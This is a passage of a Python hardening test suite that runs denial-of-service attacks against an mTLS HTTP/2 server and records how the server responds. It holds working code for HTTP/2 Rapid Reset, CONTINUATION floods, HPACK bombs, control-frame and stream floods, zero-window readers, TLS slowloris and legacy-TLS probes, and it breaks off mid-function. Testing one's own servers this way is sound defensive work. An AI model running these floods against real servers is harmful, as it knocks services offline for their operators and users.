#!/usr/bin/python3
"""Attack suite for a TLS (mTLS) HTTP/2 + HTTP/1.1 server: picket, or any peer
(nghttpx, HAProxy, nginx) given the same client certificate.

    /usr/bin/python3 tests/hardening/attacks.py --target 127.0.0.1:8443 \\
        --cert client.pem --key client.key --ca ca.pem [--pid PID[,PID...]] \\
        [--servername localhost] [--path /] [--slow-path /slow/2000] \\
        [--big-path /bytes/1073741824] [--only NAME,NAME] [--json FILE]

Runs every attack below one after the other against the running server and
prints ONE table:

    attack | verdict | detail | RSS growth | CPU s | probe ok | probe p99

  verdict   ended     the attacker's connection was ended by the server (GOAWAY or close)
            refused   the server refused what was asked (TLS alert, 4xx + close, REFUSED_STREAM)
            survived  the attacker's connection stayed up; the server kept working
            ACCEPTED  the server accepted something it should not have (smuggling, TLS 1.1, ...)
            crashed   the target process is gone, or it no longer answers a normal request
  RSS growth  peak VmRSS during the attack minus VmRSS before (sum over --pid PIDs and
            their descendants, from /proc); "-" without --pid
  CPU s     utime+stime the target used during the attack (/proc/PID/stat)
  probe     a well-behaved client in a separate process makes a fresh mTLS h2
            connection and one GET --path every 100 ms during the attack (2 s timeout):
            success rate and p99 latency (including the handshake)

Paths: --path must answer 200 quickly; --slow-path should take about 2 s (the stream
concurrency attack); --big-path should be a large download (the zero-window reader).
Against the shared bench's nginx backend use --slow-path / --big-path /1m.

Exit status 0 when no verdict is "crashed" or "ACCEPTED", else 1. Only stdlib plus
python3-hpack (Debian) are needed; run with /usr/bin/python3.

The functions here are also used by tests/integration/test_hardening.py.
"""
import argparse
import json
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

try:
    import hpack
except ImportError:  # pragma: no cover - only the probe and raw attacks need it
    hpack = None

# --------------------------------------------------------------------------
# HTTP/2 frames and HPACK (by hand: attacks need frames a real client never sends)

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, \
    S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
               11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
REFUSED_STREAM_CODE = 7
CANCEL_CODE = 8


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rst_frame(sid, code=CANCEL_CODE):
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def window_update_frame(sid, inc):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", inc))


def hpack_int(value, prefix_bits, first=0):
    """HPACK integer with an N-bit prefix; `first` holds the pattern bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    if isinstance(s, str):
        s = s.encode()
    return hpack_int(len(s), 7) + s


def hpack_literal(name, value, index=False):
    """A literal header with a literal name, without indexing (or with incremental
    indexing when `index`): stateless unless `index`."""
    return (b"\x40" if index else b"\x00") + hpack_str(name) + hpack_str(value)


def request_block(path, method="GET", authority="localhost", extra=()):
    """A stateless HPACK block for a request (static-table indices + literals)."""
    out = bytearray()
    out += {"GET": b"\x82", "POST": b"\x83"}.get(method) or (b"\x03" + hpack_str(method))
    out += b"\x87"  # :scheme https
    out += b"\x84" if path == "/" else b"\x04" + hpack_str(path)  # :path, literal w/o indexing, name idx 4
    out += b"\x01" + hpack_str(authority)                          # :authority, name idx 1
    for n, v in extra:
        out += hpack_literal(n, v)
    return bytes(out)


# --------------------------------------------------------------------------
# target and connections

class Target:
    def __init__(self, host, port, cert, key, ca, servername="localhost"):
        self.host, self.port = host, int(port)
        self.cert, self.key, self.ca = cert, key, ca
        self.servername = servername

    def context(self, alpn=("h2",), cert=True, min_version=None, max_version=None):
        ctx = ssl.create_default_context(cafile=self.ca)
        ctx.check_hostname = False  # peers in the bench name themselves differently
        if cert:
            ctx.load_cert_chain(self.cert, self.key)
        if alpn:
            ctx.set_alpn_protocols(list(alpn))
        if min_version:
            ctx.minimum_version = min_version
        if max_version:
            ctx.maximum_version = max_version
        return ctx

    def tls(self, alpn=("h2",), timeout=5.0, **kw):
        raw = socket.create_connection((self.host, self.port), timeout=timeout)
        try:
            return self.context(alpn, **kw).wrap_socket(raw, server_hostname=self.servername)
        except BaseException:
            raw.close()
            raise

    def tcp(self, timeout=5.0):
        return socket.create_connection((self.host, self.port), timeout=timeout)


class H2Raw:
    """A raw HTTP/2 connection: sends arbitrary frames (non-blocking pump that keeps
    reading while it writes, so neither side can deadlock), parses what the server
    sends and records it:

      goaway         (error code name, last stream id) of the first GOAWAY, or None
      closed         the server closed the connection (EOF or reset)
      rst            {stream id: error code name}
      status         {stream id: :status}
      data           {stream id: DATA bytes received}
      ended          set of stream ids the server ended (END_STREAM)
      settings       the server's first SETTINGS as a dict
    """

    def __init__(self, target, settings_pairs=(), preface=True, timeout=5.0, ack_settings=True,
                 auto_window=True):
        self.sock = target.tls(("h2",), timeout=timeout)
        if self.sock.selected_alpn_protocol() != "h2":
            alpn = self.sock.selected_alpn_protocol()
            self.sock.close()
            raise ConnectionError("ALPN h2 not negotiated (%r)" % alpn)
        self.sock.setblocking(False)
        self.ack_settings = ack_settings
        self.auto_window = auto_window  # send WINDOW_UPDATEs for received DATA
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.rst, self.status, self.data, self.ended = {}, {}, {}, set()
        self.settings = None
        self.settings_acks = 0
        self.pings = 0
        self.ping_acks = 0   # PING ACKs from the server (answers to our PINGs)
        self.frames_in = 0
        self.out = bytearray()
        self._hblock = {}
        self._dec = hpack.Decoder() if hpack else None
        if self._dec is not None:
            self._dec.max_header_list_size = 1 << 24
        self.sent_bytes = 0
        if preface:
            self.queue(PREFACE + settings_frame(settings_pairs))

    @property
    def ended_by_server(self):
        return self.goaway is not None or self.closed

    def queue(self, data):
        self.out += data

    def _recv(self):
        got = False
        while True:
            try:
                chunk = self.sock.recv(262144)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return got
            except ssl.SSLWantWriteError:
                return got
            except (OSError, ssl.SSLError):
                self.closed = True
                return got
            if not chunk:
                self.closed = True
                return got
            got = True
            self.buf += chunk
            self._parse()

    def _parse(self):
        b = self.buf
        pos = 0
        while len(b) - pos >= 9:
            ln = int.from_bytes(b[pos:pos + 3], "big")
            if len(b) - pos < 9 + ln:
                break
            ftype, flags = b[pos + 3], b[pos + 4]
            sid = int.from_bytes(b[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = b[pos + 9:pos + 9 + ln]
            pos += 9 + ln
            self.frames_in += 1
            self._frame(ftype, flags, sid, payload)
        self.buf = b[pos:]

    def _frame(self, ftype, flags, sid, p):
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                if self.settings is None:
                    self.settings = {struct.unpack(">H", p[i:i + 2])[0]: struct.unpack(">I", p[i + 2:i + 6])[0]
                                     for i in range(0, len(p) - 5, 6)}
                if self.ack_settings:
                    self.out += settings_frame(ack=True)
        elif ftype == PING:
            if not flags & ACK:
                self.pings += 1
                self.out += frame(PING, ACK, 0, p)
            else:
                self.ping_acks += 1
        elif ftype == GOAWAY:
            if self.goaway is None and len(p) >= 8:
                last, code = struct.unpack(">II", p[:8])
                self.goaway = (ERROR_NAMES.get(code, str(code)), last & 0x7FFFFFFF)
        elif ftype == RST_STREAM:
            code = struct.unpack(">I", p[:4])[0] if len(p) >= 4 else -1
            self.rst[sid] = ERROR_NAMES.get(code, str(code))
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & PADDED:
                    p = p[1:len(p) - p[0]]
                if flags & PRIORITY_FLAG:
                    p = p[5:]
                self._hblock[sid] = [p, flags & END_STREAM]
            elif sid in self._hblock:
                self._hblock[sid][0] += p
            if flags & END_HEADERS and sid in self._hblock:
                block, es = self._hblock.pop(sid)
                if self._dec is not None:
                    try:
                        hdrs = self._dec.decode(block, raw=True)
                    except Exception:  # noqa: BLE001 - record and go on
                        hdrs = []
                    for k, v in hdrs:
                        if k == b":status" and sid not in self.status:
                            self.status[sid] = int(v)
                if es:
                    self.ended.add(sid)
        elif ftype == DATA:
            n = len(p)
            if flags & PADDED and p:
                p = p[1:len(p) - p[0]]
            self.data[sid] = self.data.get(sid, 0) + len(p)
            if self.auto_window and n:
                self.out += window_update_frame(0, n) + window_update_frame(sid, n)
            if flags & END_STREAM:
                self.ended.add(sid)

    def pump(self, timeout=0.0):
        """Writes what is queued as far as the socket takes it and reads what arrived,
        waiting up to `timeout` for something to happen. False once the server ended
        the connection (or it broke)."""
        if self.closed:
            return False
        want_w = bool(self.out)
        try:
            r, w, _ = select.select([self.sock], [self.sock] if want_w else [], [], timeout)
        except (OSError, ValueError):
            self.closed = True
            return False
        if r or self.sock.pending():
            self._recv()
        if self.out and not self.closed:
            try:
                n = self.sock.send(bytes(self.out[:262144]))
                del self.out[:n]
                self.sent_bytes += n
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                pass
            except (OSError, ssl.SSLError):
                self.closed = True
        return not self.closed

    def send(self, data, timeout=10.0):
        """Queues `data` and pumps until it is all written, the server ended the
        connection, or `timeout` passed. True when everything was written."""
        self.queue(data)
        deadline = time.monotonic() + timeout
        while self.out and time.monotonic() < deadline:
            if not self.pump(0.05):
                return False
        return not self.out

    def run(self, seconds, until=None):
        """Pumps for up to `seconds`, or until `until()` is true or the connection ended."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if until is not None and until():
                return True
            if not self.pump(0.05):
                return until() if until is not None else False
        return until() if until is not None else True

    def wait_end(self, seconds):
        """True once the server sent GOAWAY or closed the connection within `seconds`."""
        self.run(seconds, until=lambda: self.ended_by_server)
        return self.ended_by_server

    def get(self, sid, path, timeout=5.0, authority="localhost"):
        """A normal request on this connection: its :status, or None."""
        self.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(path, authority=authority)))
        self.run(timeout, until=lambda: sid in self.ended or sid in self.rst)
        return self.status.get(sid)

    def describe(self):
        if self.goaway is not None:
            return "GOAWAY %s" % self.goaway[0]
        if self.closed:
            return "closed"
        return "open"

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h2_get(target, path, timeout=2.0):
    """One fresh mTLS h2 connection and one GET: the :status (0 = no answer)."""
    c = None
    try:
        c = H2Raw(target, timeout=timeout)
        st = c.get(1, path, timeout=timeout)
        return st or 0
    except (OSError, ssl.SSLError, ConnectionError):
        return 0
    finally:
        if c is not None:
            c.close()


# --------------------------------------------------------------------------
# the well-behaved probe (a separate process so the attacker's CPU use and the GIL
# do not distort its latencies)

def probe_loop(target, path, interval, out, stop_event=None):
    """Fresh connection + GET every `interval` s; writes "ok|fail <ms>" lines to `out`."""
    while stop_event is None or not stop_event.is_set():
        t0 = time.monotonic()
        st = h2_get(target, path, timeout=2.0)
        ms = (time.monotonic() - t0) * 1000.0
        out.write("%s %.2f %d\n" % ("ok" if st == 200 else "fail", ms, st))
        out.flush()
        rest = interval - (time.monotonic() - t0)
        if rest > 0:
            if stop_event is not None:
                stop_event.wait(rest)
            else:
                time.sleep(rest)


class Probe:
    """Runs `attacks.py --probe-worker` in a child process; stop() returns
    (successes, total, p99 ms)."""

    def __init__(self, args_target, path, interval=0.1):
        t = args_target
        self.proc = subprocess.Popen(
            [sys.executable, os.path.abspath(__file__), "--probe-worker", "--target",
             "%s:%d" % (t.host, t.port), "--cert", t.cert, "--key", t.key, "--ca", t.ca,
             "--servername", t.servername, "--path", path, "--interval", str(interval)],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)

    def stop(self):
        time.sleep(0.05)
        try:
            self.proc.terminate()
        except ProcessLookupError:
            pass
        try:
            out, _ = self.proc.communicate(timeout=5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            out, _ = self.proc.communicate()
        ok, lats = 0, []
        for ln in out.decode(errors="replace").splitlines():
            parts = ln.split()
            if len(parts) >= 2:
                lats.append(float(parts[1]) if parts[0] == "ok" else 2000.0)
                ok += parts[0] == "ok"
        lats.sort()
        p99 = lats[min(len(lats) - 1, int(len(lats) * 0.99))] if lats else None
        return ok, len(lats), p99


# --------------------------------------------------------------------------
# /proc accounting

CLK_TCK = os.sysconf("SC_CLK_TCK")


def _descendants(pids):
    out = set(pids)
    try:
        entries = [e for e in os.listdir("/proc") if e.isdigit()]
    except OSError:
        return out
    parent = {}
    for e in entries:
        try:
            with open("/proc/%s/stat" % e) as f:
                s = f.read()
            parent[int(e)] = int(s[s.rfind(")") + 2:].split()[1])
        except (OSError, ValueError, IndexError):
            pass
    changed = True
    while changed:
        changed = False
        for p, pp in parent.items():
            if pp in out and p not in out:
                out.add(p)
                changed = True
    return out


def rss_kib(pids):
    total = 0
    for p in pids:
        try:
            with open("/proc/%d/status" % p) as f:
                for ln in f:
                    if ln.startswith("VmRSS:"):
                        total += int(ln.split()[1])
        except OSError:
            pass
    return total


def cpu_seconds(pids):
    total = 0
    for p in pids:
        try:
            with open("/proc/%d/stat" % p) as f:
                s = f.read()
            fields = s[s.rfind(")") + 2:].split()
            total += int(fields[11]) + int(fields[12])
        except (OSError, ValueError, IndexError):
            pass
    return total / float(CLK_TCK)


def alive(pids):
    return any(os.path.exists("/proc/%d" % p) for p in pids)


class Meter:
    """RSS sampled every 50 ms in a thread (peak over the attack) and CPU time delta."""

    def __init__(self, pids):
        self.pids = _descendants(pids) if pids else set()
        self.rss0 = rss_kib(self.pids) if self.pids else None
        self.cpu0 = cpu_seconds(self.pids) if self.pids else None
        self.peak = self.rss0 or 0
        self._stop = threading.Event()
        self._t = None
        if self.pids:
            self._t = threading.Thread(target=self._run, daemon=True)
            self._t.start()

    def _run(self):
        while not self._stop.wait(0.05):
            self.peak = max(self.peak, rss_kib(self.pids))

    def stop(self):
        """(RSS growth KiB or None, CPU s or None, alive or None)."""
        if not self.pids:
            return None, None, None
        self._stop.set()
        self._t.join(2)
        self.peak = max(self.peak, rss_kib(self.pids))
        return self.peak - self.rss0, cpu_seconds(self.pids) - self.cpu0, alive(self.pids)


# --------------------------------------------------------------------------
# attacks: each returns (verdict, detail) and must finish within ~20 s

def _conn_verdict(c, what):
    if c.goaway is not None:
        return "ended", "%s -> GOAWAY %s" % (what, c.goaway[0])
    if c.closed:
        return "ended", "%s -> connection closed" % what
    return "survived", "%s -> connection still open" % what


def h2_rapid_reset(t, opts, n=5000):
    """CVE-2023-44487: n x (HEADERS + RST_STREAM CANCEL) as fast as possible."""
    c = H2Raw(t)
    try:
        c.run(0.3, until=lambda: c.settings is not None)
        block = request_block(opts.path)
        batch = bytearray()
        sent = 0
        for i in range(n):
            sid = 2 * i + 1
            batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, block) + rst_frame(sid)
            if len(batch) > 32768 or i == n - 1:
                if not c.send(bytes(batch), timeout=10):
                    break
                sent = i + 1
                batch = bytearray()
        c.wait_end(3.0)
        v, d = _conn_verdict(c, "%d of %d HEADERS+RST sent" % (sent, n))
        return v, d
    finally:
        c.close()


def h2_continuation_flood(t, opts, n=20000):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then n CONTINUATION frames,
    never END_HEADERS."""
    c = H2Raw(t)
    try:
        c.run(0.3, until=lambda: c.settings is not None)
        c.send(frame(HEADERS, END_STREAM, 1, request_block(opts.path)))
        cont = frame(CONTINUATION, 0, 1, hpack_literal("x-a", "b"))
        sent = 0
        for i in range(0, n, 500):
            if not c.send(cont * 500, timeout=10):
                break
            sent = i + 500
        c.wait_end(3.0)
        return _conn_verdict(c, "%d CONTINUATION frames sent" % sent)
    finally:
        c.close()


def h2_header_flood(t, opts, count=70, size=1000):
    """A header list far over 64 KiB (count x size-byte headers), in HEADERS plus a few
    CONTINUATION frames (fewer than 8): expect 431 or a reset stream, then the connection
    still works. Returns (verdict, detail, conn) with the connection left open."""
    c = H2Raw(t)
    c.run(0.3, until=lambda: c.settings is not None)
    val = "v" * size
    block = request_block(opts.path, extra=[("x-big-%03d" % i, val) for i in range(count)])
    frames = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    data = bytearray()
    for i, fr in enumerate(frames):
        flags = (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(frames) - 1 else 0)
        data += frame(HEADERS if i == 0 else CONTINUATION, flags, 1, fr)
    c.send(bytes(data))
    c.run(5.0, until=lambda: 1 in c.ended or 1 in c.rst or c.ended_by_server)
    return c, "%d bytes of headers in %d frames" % (count * (size + 32 + 9), len(frames))


def _header_result(c, what):
    st = c.status.get(1)
    if st is not None and 400 <= st < 500:
        return "refused", "%s -> %d" % (what, st)
    if 1 in c.rst:
        return "refused", "%s -> RST_STREAM %s" % (what, c.rst[1])
    if c.ended_by_server:
        return "ended", "%s -> %s" % (what, c.describe())
    if st is not None:
        return "ACCEPTED", "%s -> %d" % (what, st)
    return "survived", "%s -> no answer" % what


def h2_large_headers(t, opts):
    c, what = h2_header_flood(t, opts)
    try:
        return _header_result(c, what)
    finally:
        c.close()


def hpack_bomb_block(path, entry=4000, repeats=2000, authority="localhost"):
    """Inserts one `entry`-byte header into the HPACK dynamic table, then references
    it `repeats` times with one byte each: ~entry*repeats bytes decoded from a few KiB."""
    out = bytearray(b"\x82\x87")
    out += b"\x04" + hpack_str(path)
    out += b"\x01" + hpack_str(authority)
    out += hpack_literal("x-bomb", "b" * entry, index=True)  # dynamic index 62
    out += b"\xbe" * repeats                                  # indexed field 62
    return bytes(out)


def h2_hpack_bomb(t, opts):
    c = H2Raw(t)
    try:
        c.run(0.3, until=lambda: c.settings is not None)
        block = hpack_bomb_block(opts.path)
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        c.run(5.0, until=lambda: 1 in c.ended or 1 in c.rst or c.ended_by_server)
        return _header_result(c, "%d wire bytes, %d decoded" % (len(block), 2000 * (4000 + 6 + 32)))
    finally:
        c.close()


def h2_hpack_bomb_64k(t, opts, hold=10.0, nthreads=2):
    """For `hold` seconds, `nthreads` clients each send, connection after connection,
    one header block of 64K one-byte references to a 4000-byte HPACK entry (~260 MB
    decoded per block; 64 KiB on the wire, in HEADERS + CONTINUATION frames) and wait
    for the server's answer or close: the CPU-fairness benchmark of issue 14."""
    block = hpack_bomb_block(opts.path, repeats=65536)
    frames = []
    for i in range(0, len(block), 16000):
        last = i + 16000 >= len(block)
        if i == 0:
            frames.append(frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), 1, block[i:i + 16000]))
        else:
            frames.append(frame(CONTINUATION, END_HEADERS if last else 0, 1, block[i:i + 16000]))
    wire = b"".join(frames)
    stats = {"blocks": 0, "ended": 0, "answered": 0}
    lock = threading.Lock()
    deadline = time.monotonic() + hold

    def run():
        while time.monotonic() < deadline:
            c = None
            try:
                c = H2Raw(t)
                c.run(0.5, until=lambda: c.settings is not None)
                c.send(wire)
                c.run(2.0, until=lambda: 1 in c.ended or 1 in c.rst or c.ended_by_server)
                with lock:
                    stats["blocks"] += 1
                    stats["ended"] += 1 if c.ended_by_server else 0
                    stats["answered"] += 1 if (1 in c.status or 1 in c.rst) else 0
            except (OSError, ssl.SSLError, ConnectionError):
                pass
            finally:
                if c is not None:
                    c.close()
    ths = [threading.Thread(target=run, daemon=True) for _ in range(nthreads)]
    for th in ths:
        th.start()
    for th in ths:
        th.join(hold + 10)
    d = "%d blocks of 64K references sent on %d connections: %d connections ended by the server, %d answered" % (
        stats["blocks"], stats["blocks"], stats["ended"], stats["answered"])
    return ("ended" if stats["blocks"] and stats["ended"] == stats["blocks"] else "survived"), d


def h2_stream_flood(t, opts, n=200):
    """n concurrent streams to the slow path, after acknowledging the server's SETTINGS
    (a client that ignores SETTINGS_MAX_CONCURRENT_STREAMS)."""
    c = H2Raw(t)
    try:
        c.run(2.0, until=lambda: c.settings is not None)
        c.pump(0.1)  # our SETTINGS ACK goes out first
        limit = (c.settings or {}).get(S_MAX_CONCURRENT_STREAMS)
        block = request_block(opts.slow_path)
        c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block) for i in range(n)))
        c.run(8.0, until=lambda: c.ended_by_server or
              all((2 * i + 1) in c.ended or (2 * i + 1) in c.rst for i in range(n)))
        ok = sum(1 for s, v in c.status.items() if v == 200 and s in c.ended)
        refused = sum(1 for v in c.rst.values() if v == "REFUSED_STREAM")
        other = {v for v in c.rst.values() if v != "REFUSED_STREAM"}
        d = "limit %s; %d streams sent: %d x 200, %d REFUSED_STREAM%s, %s" % (
            limit, n, ok, refused, (", RST " + ",".join(sorted(other))) if other else "", c.describe())
        if c.ended_by_server:
            return "ended", d
        if refused:
            return "refused", d
        return "survived", d
    finally:
        c.close()


def h2_control_flood(t, opts, kind, n=100000):
    """n SETTINGS (empty) or PING frames in bursts, never reading the ACKs."""
    c = H2Raw(t, ack_settings=True)
    c.sock_read = False
    try:
        c.run(0.3, until=lambda: c.settings is not None)
        one = settings_frame() if kind == "settings" else frame(PING, 0, 0, b"12345678")
        sent = 0
        deadline = time.monotonic() + 10.0
        # Write without reading: the server's ACKs pile up on its side.
        c.sock.setblocking(True)
        c.sock.settimeout(2.0)
        burst = one * 1000
        try:
            while sent < n and time.monotonic() < deadline:
                c.sock.sendall(burst)
                sent += 1000
        except (socket.timeout, ssl.SSLError, OSError) as e:
            stop = type(e).__name__
        else:
            stop = None
        c.sock.setblocking(False)
        c.wait_end(3.0)
        what = "%d %s frames written%s" % (sent, kind.upper(), " (server stopped reading)" if stop == "timeout" or stop == "TimeoutError" else "")
        if stop and stop not in ("timeout", "TimeoutError") and not c.ended_by_server:
            c.closed = True
        return _conn_verdict(c, what)
    finally:
        c.close()


def h2_settings_flood(t, opts):
    return h2_control_flood(t, opts, "settings")


def h2_ping_flood(t, opts):
    return h2_control_flood(t, opts, "ping")


def h2_silent_flood(t, opts, kind, n=100000):
    """n frames that need no answer, sent as fast as the server takes them:
    WINDOW_UPDATE +1 on the connection (cheap to send, work to account), or PRIORITY
    frames re-parenting 1000 idle streams over and over (CVE-2019-9513 "resource loop":
    costly where a priority tree is kept)."""
    c = H2Raw(t)
    try:
        c.run(0.3, until=lambda: c.settings is not None)
        if kind == "window_update":
            burst = window_update_frame(0, 1) * 1000
        else:
            burst = b"".join(frame(PRIORITY, 0, 2 * i + 1,
                                   struct.pack(">IB", 2 * ((i + 7) % 1000) + 1, 200))
                             for i in range(1000))
        sent = 0
        deadline = time.monotonic() + 10.0
        while sent < n and time.monotonic() < deadline:
            if not c.send(burst, timeout=10):
                break
            sent += 1000
        c.wait_end(2.0)
        return _conn_verdict(c, "%d %s frames sent" % (sent, kind.upper()))
    finally:
        c.close()


def h2_window_update_flood(t, opts):
    return h2_silent_flood(t, opts, "window_update")


def h2_priority_flood(t, opts):
    return h2_silent_flood(t, opts, "priority")


def h2_zero_window(t, opts, conns=10, streams=10, hold=5.0):
    """conns connections with SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE, each
    with `streams` downloads of --big-path, held for `hold` seconds."""
    cs = []
    try:
        for _ in range(conns):
            c = H2Raw(t, settings_pairs=[(S_INITIAL_WINDOW_SIZE, 0)], auto_window=False)
            block = request_block(opts.big_path)
            c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block)
                            for i in range(streams)))
            cs.append(c)
        deadline = time.monotonic() + hold
        while time.monotonic() < deadline:
            for c in cs:
                c.pump(0.01)
        ended = sum(1 for c in cs if c.ended_by_server)
        got = sum(sum(c.data.values()) for c in cs)
        heads = sum(len(c.status) for c in cs)
        d = "%d conns x %d streams, window 0, held %.0fs: %d responses started, %d DATA bytes, %d conns ended" % (
            conns, streams, hold, heads, got, ended)
        return ("ended" if ended == conns else "survived"), d
    finally:
        for c in cs:
            c.close()


# -- TLS ------------------------------------------------------------------

def _wait_closed(socks, seconds, until=None):
    """Waits until the server closed every socket (or `until` of them); returns
    (closed count, seconds)."""
    t0 = time.monotonic()
    open_ = list(socks)
    want = len(socks) if until is None else until
    while len(socks) - len(open_) < want and time.monotonic() - t0 < seconds:
        r, _, _ = select.select(open_, [], [], 0.1)
        for s in r:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                open_.remove(s)
    return len(socks) - len(open_), time.monotonic() - t0


def tls_slowloris(t, opts, n=100, wait=15.0):
    socks = []
    try:
        for _ in range(n):
            socks.append(t.tcp())
        closed, secs = _wait_closed(socks, wait)
        d = "%d TCP conns, nothing sent: %d closed by the server within %.1fs" % (n, closed, secs)
        return ("ended" if closed == n else "survived"), d
    finally:
        for s in socks:
            s.close()


def client_hello(t):
    """The bytes of a real ClientHello for the target (from an ssl MemoryBIO)."""
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = t.context(("h2",)).wrap_bio(inc, outg, server_hostname=t.servername)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outg.read()


def tls_partial_hello(t, opts, n=50, wait=15.0):
    hello = client_hello(t)
    socks = []
    try:
        for _ in range(n):
            s = t.tcp()
            s.sendall(hello[:len(hello) // 2])
            socks.append(s)
        closed, secs = _wait_closed(socks, wait)
        d = "%d conns sent %d of %d ClientHello bytes: %d closed within %.1fs" % (
            n, len(hello) // 2, len(hello), closed, secs)
        return ("ended" if closed == n else "survived"), d
    finally:
        for s in socks:
            s.close()


def s_client(t, args, stdin=b"", timeout=10.0, env=None):
    """openssl s_client against the target; (exit status, stdout+stderr text)."""
    cmd = ["openssl", "s_client", "-connect", "%s:%d" % (t.host, t.port), "-servername", t.servername,
           "-CAfile", t.ca, "-cert", t.cert, "-key", t.key] + list(args)
    e = dict(os.environ)
    e.update(env or {})
    try:
        r = subprocess.run(cmd, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           timeout=timeout, env=e)
        return r.returncode, r.stdout.decode(errors="replace")
    except subprocess.TimeoutExpired as ex:
        return -1, (ex.stdout or b"").decode(errors="replace") + "\n(timeout)"


def _negotiated(out):
    """(protocol, cipher) that s_client reports as negotiated, or (None, None)."""
    proto = cipher = None
    for ln in out.splitlines():
        ln = ln.strip()
        if ln.startswith("Protocol") and ":" in ln:
            proto = ln.split(":", 1)[1].strip()
        elif ln.startswith("Cipher") and ":" in ln and "is" not in ln.split(":", 1)[0]:
            cipher = ln.split(":", 1)[1].strip()
        elif ln.startswith("New, ") and "Cipher is" in ln:
            cipher = ln.split("Cipher is", 1)[1].strip()
    if cipher in ("0000", "(NONE)", ""):
        cipher = None
    return proto, cipher


# OpenSSL 3 on Debian refuses TLS < 1.2 and SHA-1 suites at its default security level
# on the *client* side too; level 0 makes the client really offer them.
LEGACY = ["-cipher", "DEFAULT:@SECLEVEL=0"]
LEGACY_ENV = {"OPENSSL_CONF": "/dev/null"}


def _tls_refusal(t, args, what):
    rc, out = s_client(t, args, stdin=b"", timeout=10.0, env=LEGACY_ENV)
    proto, cipher = _negotiated(out)
    if cipher:
        return "ACCEPTED", "%s -> %s %s" % (what, proto, cipher)
    reason = ""
    for key in ("alert protocol version", "unsupported protocol", "wrong version number",
                "handshake failure", "no shared cipher", "no protocols available",
                "no ciphers available", "inappropriate fallback"):
        if key in out:
            reason = key
            break
    if reason in ("no protocols available", "no ciphers available"):
        return "n/a", "%s: the local openssl cannot offer it (%s)" % (what, reason)
    return "refused", "%s -> %s" % (what, reason or "handshake failed (rc %d)" % rc)


def tls_v1_0(t, opts):
    return _tls_refusal(t, ["-tls1"] + LEGACY, "TLS 1.0 only")


def tls_v1_1(t, opts):
    return _tls_refusal(t, ["-tls1_1"] + LEGACY, "TLS 1.1 only")


def tls_non_aead(t, opts):
    return _tls_refusal(t, ["-tls1_2", "-cipher", "AES128-SHA:ECDHE-ECDSA-AES128-SHA:"
                            "ECDHE-RSA-AES128-SHA:AES128-SHA256:ECDHE-ECDSA-AES128-SHA256@SECLEVEL=0"],
                        "TLS 1.2, CBC suites only")


def tls_renegotiation(t, opts):
    """Client-initiated renegotiation on TLS 1.2 (s_client's 'R' command), then a
    request on the same connection. Refused = the server did not complete a second
    handshake (alert no_renegotiation, or the connection ended)."""
    # s_client obeys its commands ('R') only without -ign_eof, so stdin stays open
    # (the trailing sleep) until the answer had time to come.
    script = "(sleep 0.7; printf 'R\\n'; sleep 1.5; printf 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n'; sleep 1.5) | " \
             "openssl s_client -connect %s:%d -servername %s -CAfile %s -cert %s -key %s -tls1_2 " \
             "-alpn http/1.1 2>&1" % (opts.path, t.servername, t.host, t.port, t.servername,
                                            t.ca, t.cert, t.key)
    try:
